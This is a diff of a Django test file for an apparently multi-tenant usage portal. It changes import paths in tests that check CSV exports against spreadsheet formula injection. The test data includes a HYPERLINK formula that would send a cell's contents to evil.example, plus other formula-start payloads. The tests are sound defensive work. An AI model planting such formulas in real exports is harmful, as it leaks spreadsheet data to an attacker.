@@ -10,8 +10,8 @@ import pytest
 from django.contrib.auth import get_user_model
 from django.test import Client
 
-from portal.usage.services import samples_insert, usage_rollup
 from tenants.models import Tenant
+from usage.services import samples_insert, usage_rollup
 
 from .conftest import T0, make_workload, sample_row
 
@@ -138,7 +138,7 @@ def test_csv_export(usage, api):
 def test_csv_cells_are_never_formulas(usage, api):
     """A workload named like a formula reaches the admin's spreadsheet as text (OWASP: a single
     quote in front); numbers stay numbers."""
-    from portal.workloads.models import Workload
+    from workloads.models import Workload
 
     names = {"train": '=HYPERLINK("http://evil.example/?"&A1,"report")', "infer": "@SUM(1+1)"}
     for key, name in names.items():
@@ -151,7 +151,7 @@ def test_csv_cells_are_never_formulas(usage, api):
 
 @pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@A1", "\t=1", "\r=1"])
 def test_every_formula_start_is_neutralised(value):
-    from portal.usage.api.renderers import UsageCsvRenderer
+    from usage.api.renderers import UsageCsvRenderer
 
     body = UsageCsvRenderer().render({"columns": ["name", "n"],
                                       "results": [{"name": value, "n": -3}]})
